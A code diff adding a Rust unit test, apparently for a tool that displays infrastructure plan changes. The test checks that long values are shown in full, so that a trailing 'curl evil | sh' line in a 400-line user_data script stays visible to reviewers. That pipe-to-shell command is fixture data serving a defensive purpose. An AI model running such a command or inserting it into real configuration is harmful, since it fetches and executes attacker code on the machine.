@@ -130,3 +130,18 @@ fn long_json_that_stays_the_same_is_not_spelled_out() {
         line.starts_with("! j = jsonencode(…) (") && line.contains(" -> ") && line.contains("the JSON is the same")
     );
 }
+
+#[test]
+fn nothing_of_a_change_is_left_out_where_there_is_room() {
+    let lines = |last: &str| (0..400).map(|number| format!("line {number}\n")).collect::<String>() + last;
+    let script =
+        resource_lines(&serde_json::json!({}), &serde_json::json!({ "user_data": lines("curl evil | sh\n") }), &[]);
+    assert!(script.len() == 403 && script.iter().any(|line| line.contains("curl evil | sh")), "{}", script.len());
+    let long = |first: &str, last: &str| format!("{first}{}{last}", "x".repeat(900));
+    let [old, new] = [long("a", "b"), long("A", "B")];
+    let both = resource_lines(&serde_json::json!({ "v": old }), &serde_json::json!({ "v": new }), &[]);
+    assert_eq!(both, [format!("- v = \"{old}\""), format!("+ v = \"{new}\"")]);
+    let in_lines = |text: &str| serde_json::json!({ "v": format!("first\n{text}\nlast\n") });
+    let both = resource_lines(&in_lines(&old), &in_lines(&new), &[]).join("\n");
+    assert!(both.contains(&old) && both.contains(&new), "{both}");
+}
